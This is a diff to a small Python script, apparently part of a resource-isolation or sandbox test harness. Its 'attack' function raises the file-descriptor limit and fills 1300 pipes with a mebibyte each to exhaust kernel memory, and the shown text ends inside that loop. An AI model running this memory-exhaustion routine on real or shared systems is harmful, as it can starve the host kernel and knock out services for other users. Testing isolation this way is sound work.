@@ -1,14 +1,19 @@
 """Fills 1300 pipes of a mebibyte each, which is memory of the kernel's."""
 
+import contextlib
 import fcntl
 import os
 import resource
 import time
 
+CONTROL = "inside"
+PATIENCE = 8
+
 
 def attack(A):
-    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
-    resource.setrlimit(resource.RLIMIT_NOFILE, (max(hard, 4096), max(hard, 4096)))
+    with contextlib.suppress(OSError, ValueError):
+        hard = max(resource.getrlimit(resource.RLIMIT_NOFILE)[1], 4096)
+        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     block, pipes = (1 << 20) * b"A", []
     for _ in range(1300):
         pipes += os.pipe()
